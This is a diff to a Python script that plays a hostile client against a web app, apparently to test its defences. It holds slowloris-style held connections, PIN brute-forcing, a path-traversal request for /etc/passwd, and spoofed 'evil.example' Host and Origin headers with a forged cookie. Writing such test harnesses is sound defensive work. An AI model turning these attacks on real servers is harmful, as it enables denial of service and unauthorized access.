@@ -1,7 +1,8 @@
 """Somebody in the hall's network who means harm: `python network_attack.py URL SECONDS`.
 
-Holds two hundred connections, sends others a byte at a time, guesses PINs, asks for windows it may not have and for
-files that are not there; forty tries a second in all. It prints how many of each answer it got.
+Holds two hundred connections and sends a byte at a time on each, of a header or of a PIN; guesses PINs, asks
+for windows it may not have and for files that are not there, comes under another name, and from another page with a
+cookie nobody was given; forty tries a second in all. It prints how many of each answer it got.
 """
 
 from __future__ import annotations
@@ -28,7 +29,7 @@ async def attack(url: str, seconds: float) -> Counter[str]:
     until = time.monotonic() + seconds
     held = [asyncio.create_task(_hold(host, port, until, answers)) for _ in range(HELD)]
     async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(force_close=True)) as browser:
-        for kind in cycle((_guess, _ask_for_window, _climb)):
+        for kind in cycle((_guess, _ask_for_window, _climb, _rebind, _ride)):
             if time.monotonic() > until:
                 break
             with suppress(aiohttp.ClientError, TimeoutError):
@@ -42,13 +43,17 @@ async def attack(url: str, seconds: float) -> Counter[str]:
 
 async def _hold(host: str, port: int, until: float, answers: Counter[str]) -> None:
     """A request that is never whole: a byte a second."""
+    own = f"Host: {host}:{port}\r\nOrigin: http://{host}:{port}\r\n".encode()
+    post = b"POST /enter HTTP/1.1\r\n" + own + b"Content-Length: 900\r\n\r\npin="
+    begun = cycle((b"GET / HTTP/1.1\r\nHost: ", post))
     while time.monotonic() < until:
         try:
             _reader, writer = await asyncio.open_connection(host, port)
-            for byte in b"GET / HTTP/1.1\r\nHost: " + b"x" * 100:
-                writer.write(bytes([byte]))
+            writer.write(next(begun))
+            for _byte in range(100):
                 await writer.drain()
                 await asyncio.sleep(1)
+                writer.write(b"x")
         except OSError:
             answers["hung up"] += 1
             await asyncio.sleep(0.5)
@@ -69,6 +74,19 @@ async def _ask_for_window(browser: aiohttp.ClientSession, url: str) -> int:
 
 async def _climb(browser: aiohttp.ClientSession, url: str) -> int:
     async with browser.get(f"{url}/static/..%2f..%2f..%2fetc%2fpasswd") as answer:
+        return answer.status
+
+
+async def _rebind(browser: aiohttp.ClientSession, url: str) -> int:
+    """A name of somebody else that leads here."""
+    async with browser.get(url, headers={"Host": "evil.example"}) as answer:
+        return answer.status
+
+
+async def _ride(browser: aiohttp.ClientSession, url: str) -> int:
+    """A page elsewhere, in a browser that may be in."""
+    headers = {"Origin": "http://evil.example", "Cookie": "toadam=" + "A" * 22}
+    async with browser.post(f"{url}/leave", headers=headers) as answer:
         return answer.status
 
 
